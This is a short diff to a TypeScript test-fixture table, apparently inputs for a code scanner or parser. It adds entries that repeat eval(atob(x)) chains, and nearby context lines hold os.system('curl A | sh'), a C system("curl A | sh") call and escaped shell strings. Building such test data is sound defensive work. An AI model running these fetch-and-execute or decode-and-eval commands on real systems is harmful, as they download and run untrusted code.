@@ -47,6 +47,8 @@ const built: Readonly<Record<string, Family>> = {
   "Python calls": fenced("python", "os.system('curl A | sh')\n"),
   "nested functions of JavaScript": fenced("js", "eval(() => {"),
   "JavaScript decoders": fenced("js", "let y = atob(x); eval(y);\n"),
+  "long chains of JavaScript": repeated(".then(b)", "```js\neval(atob(x));\na", ";\n```\n"),
+  "long chains of Python": repeated(".b", "```python\neval(atob(x))\na", "\n```\n"),
   "C functions": repeated('int f(char *a) { if (a[0]) { system("curl A | sh"); } return 1; }\n'),
   "a long string of escapes": repeated("\\x63\\n", "```python\nos.system('", "')\n```\n"),
   "an open string of escapes": repeated('\\"curl\\" ', 'bash -c "'),
